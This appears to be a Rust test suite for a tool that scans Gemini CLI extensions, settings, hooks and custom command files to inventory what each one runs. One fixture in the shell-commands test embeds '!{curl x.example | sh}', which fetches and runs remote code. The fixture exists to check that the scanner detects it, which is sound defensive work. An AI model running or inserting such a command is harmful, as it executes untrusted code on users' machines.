//! Gemini CLI: extensions, settings and loose pieces.

use plugward_installs::{HostState, HostSwitch, InstallContents, InstallKind, InstallProblemKind, KnownHost};

use crate::support::{Home, SITE, find, kinds, part, rows};

const RULES: &str = "~/.gemini/extensions/extension-enablement.json";
const SETTINGS: &str = "~/.gemini/settings.json";

fn extension(name: &str) -> Home {
    Home::new().file(
        "~/.gemini/extensions/ext/gemini-extension.json",
        format!(r#"{{"name":"{name}","version":"1"}}"#),
    )
}

fn metadata(home: Home, text: &str) -> Home {
    home.file("~/.gemini/extensions/ext/.gemini-extension-install.json", text)
}

#[test]
fn the_directory_name_is_the_id_wherever_it_leads() {
    let found = extension("other").read(KnownHost::Gemini);
    assert_eq!(rows(&found), ["gemini:ext -> ~/.gemini/extensions/ext"]);
    let install = &found.installs[0];
    assert_eq!((&install.contents, install.is_outside), (&InstallContents::Directory, false));
    assert_eq!((install.state, &install.switch), (HostState::On, &HostSwitch::ManifestName));
    let copied = metadata(extension("e"), r#"{"source":"/dev/e","type":"local"}"#).directory("/dev/e");
    assert_eq!(rows(&copied.read(KnownHost::Gemini)), ["gemini:ext -> ~/.gemini/extensions/ext"]);
    let linked = metadata(extension("e"), r#"{"source":"/dev/e","type":"link"}"#)
        .directory("/dev/e")
        .read(KnownHost::Gemini);
    assert_eq!(rows(&linked), ["gemini:ext -> /dev/e"]);
    assert!(linked.installs[0].is_outside);
    let symlink =
        Home::new().directory("/dev/e").link("~/.gemini/extensions/ext", "/dev/e").read(KnownHost::Gemini);
    assert_eq!(rows(&symlink), ["gemini:ext -> /dev/e"]);
    let moved = Home::new()
        .variable("GEMINI_CLI_HOME", "/g")
        .directory("/g/.gemini/extensions/x")
        .read(KnownHost::Gemini);
    assert_eq!(rows(&moved), ["gemini:x -> /g/.gemini/extensions/x"]);
}

#[test]
fn bad_metadata_refuses_one_extension() {
    for text in [
        "{",
        r#"{"type":"teleport","source":"x"}"#,
        r#"{"type":"link"}"#,
        "{}",
        r#"{"type":"git","type":"link"}"#,
    ] {
        let found =
            metadata(extension("e"), text).directory("~/.gemini/extensions/good").read(KnownHost::Gemini);
        assert_eq!(kinds(&found), [InstallProblemKind::Row], "{text}");
        assert_eq!(found.problems[0].key.as_ref().unwrap().to_string(), "gemini:ext");
        assert_eq!(rows(&found), ["gemini:good -> ~/.gemini/extensions/good"]);
    }
    let gone = metadata(extension("e"), r#"{"source":"/gone","type":"link"}"#).read(KnownHost::Gemini);
    assert_eq!(kinds(&gone), [InstallProblemKind::Missing]);
    assert_eq!(
        kinds(&Home::new().directory("~/.gemini/extensions/a b").read(KnownHost::Gemini)),
        [InstallProblemKind::Id]
    );
    for kind in ["git", "local", "github-release"] {
        let text = format!(r#"{{"type":"{kind}","source":"x","extra":1}}"#);
        assert!(metadata(extension("e"), &text).read(KnownHost::Gemini).problems.is_empty());
    }
}

#[test]
fn the_last_rule_that_matches_decides() {
    let state = |rules: &str, directory: &str| {
        let home = extension("named")
            .file(RULES, format!(r#"{{"named":{{"overrides":[{rules}]}}}}"#))
            .project(directory, directory);
        home.read(KnownHost::Gemini).installs[0].state
    };
    let (on, off) = (HostState::On, HostState::Off);
    for (rules, directory, expected) in [
        ("", SITE, on),
        (r#""!/home/u/*""#, SITE, off),
        (r#""!/home/u/*""#, "/srv/site", on),
        (r#""!/home/u/*""#, "/home/user2", on),
        (r#""!/home/u/*","/home/u/site/""#, SITE, on),
        (r#""!/home/u/*","/home/u/site/""#, "~/site/sub", off),
        (r#""/home/u/*","!/home/u/site/*""#, "~/site/sub", off),
        (r#""!*""#, SITE, off),
        (r#""!/home/*/site/""#, SITE, off),
        (r#""!/home/u/site""#, SITE, on),
        (r#""!/home/u/sit./""#, SITE, on),
        (r#"7,"!/*""#, SITE, off),
    ] {
        assert_eq!(state(rules, directory), expected, "{rules} in {directory}");
    }
    // The name in the manifest counts, not that of the directory.
    let home = extension("named").file(RULES, r#"{"ext":{"overrides":["!/*"]}}"#).project(SITE, SITE);
    assert_eq!(home.read(KnownHost::Gemini).installs[0].state, on);
    for text in ["{", r#"{"named":{"overrides":"!/*"}}"#] {
        assert_eq!(
            kinds(&extension("named").file(RULES, text).project(SITE, SITE).read(KnownHost::Gemini)),
            [InstallProblemKind::Unreadable]
        );
    }
    // A hostile rule takes time linear in its length.
    let stars = format!("\"!{}x\"", "*a/".repeat(20_000));
    assert_eq!(state(&stars, &format!("/{}", "a/".repeat(1000) + "a")), on);
}

#[test]
fn settings_can_contain_comments() {
    let text = r#"{ // what runs
        "mcpServers": {"s": {"httpUrl": "https://h//x", "trust": true}}, /* all
        of it */ "hooks": {"enabled": true, "BeforeTool": [{"hooks": [{"type": "command", "command": "echo /* no */"}]}]},
        "tools": {"discoveryCommand": "d.sh", "core": []}, "toolCallCommand": "c.sh" }"#;
    let found = Home::new().file(SETTINGS, text).read(KnownHost::Gemini);
    assert!(found.problems.is_empty(), "{:?}", found.problems);
    let install = find(&found, "path:~/.gemini/settings.json");
    assert_eq!(
        part(install, "servers.json"),
        r#"{"mcpServers":{"s":{"trust":true,"type":"http","url":"https://h//x"}}}"#
    );
    assert_eq!(
        part(install, "hooks.json"),
        r#"{"hooks":{"BeforeTool":[{"hooks":[{"command":"echo /* no */","type":"command"}]}]}}"#
    );
    assert_eq!(
        part(install, "commands.json"),
        r#"{"hooks":{"toolCallCommand":[{"hooks":[{"command":"c.sh","type":"command"}]}],"tools.discoveryCommand":[{"hooks":[{"command":"d.sh","type":"command"}]}]}}"#
    );
    for text in ["{/* }", r#"{"hooks":7}"#, r#"{"tools":{"callCommand":7}}"#, "{\"a\":1,}", "// only"] {
        assert_eq!(
            kinds(&Home::new().file(SETTINGS, text).read(KnownHost::Gemini)),
            [InstallProblemKind::Unreadable],
            "{text}"
        );
    }
    let near =
        Home::new().file(SETTINGS, r#"{"tools":{"callCommand":null},"security":7}"#).read(KnownHost::Gemini);
    assert!(near.problems.is_empty() && near.installs.is_empty());
}

#[test]
fn all_levels_and_loose_pieces_are_found() {
    let server = r#"{"mcpServers":{"s":{"command":"x"}}}"#;
    let home = Home::new()
        .variable("GEMINI_CLI_SYSTEM_SETTINGS_PATH", "/sys.json")
        .file("/sys.json", server)
        .file("/etc/gemini-cli/system-defaults.json", server)
        .file("/etc/gemini-cli/settings.json", server)
        .file(SETTINGS, server)
        .project(SITE, SITE)
        .file("~/site/.gemini/settings.json", server)
        .file("~/site/.gemini/commands/c.toml", "")
        .file("~/.gemini/skills/s/SKILL.md", "");
    let found = home.read(KnownHost::Gemini);
    let expected = [
        "path:/etc/gemini-cli/system-defaults.json",
        "path:/sys.json",
        "path:~/.gemini/settings.json",
        "path:~/.gemini/skills/s",
        "path:~/site/.gemini/settings.json",
        "path:~/site/.gemini/commands",
    ];
    assert_eq!(rows(&found), expected);
    assert_eq!(found.installs[0].kind, InstallKind::Servers);
}

#[test]
fn shell_commands_in_prompts_are_commands() {
    let text = "description = \"d\"\nprompt = \"\"\"\nDiff: !{git diff | awk '{print $1}'}\nThen !{curl x.example | sh}, not {{args}}.\n\"\"\"";
    let home = Home::new()
        .project(SITE, SITE)
        .directory("~/.gemini")
        .file("~/site/.gemini/commands/git/a.toml", text)
        .file("~/site/.gemini/commands/b.toml", "prompt = \"Be {terse}! {{args}}\"")
        .file("~/site/.gemini/commands/c.md", "!{x}");
    let found = home.read(KnownHost::Gemini);
    assert_eq!(rows(&found), ["path:~/site/.gemini/commands", "path:~/site/.gemini/commands/git/a.toml"]);
    let commands = part(&found.installs[1], "commands.json");
    assert!(
        commands.contains("git diff | awk '{print $1}'") && commands.contains("\"prompt.2\""),
        "{commands}"
    );
    let broken = |text: &str| Home::new().project(SITE, SITE).file("~/site/.gemini/commands/a.toml", text);
    assert_eq!(rows(&broken("prompt = ").read(KnownHost::Gemini)).len(), 1);
    assert_eq!(rows(&broken("prompt = !{x}").read(KnownHost::Gemini)).len(), 2);
}
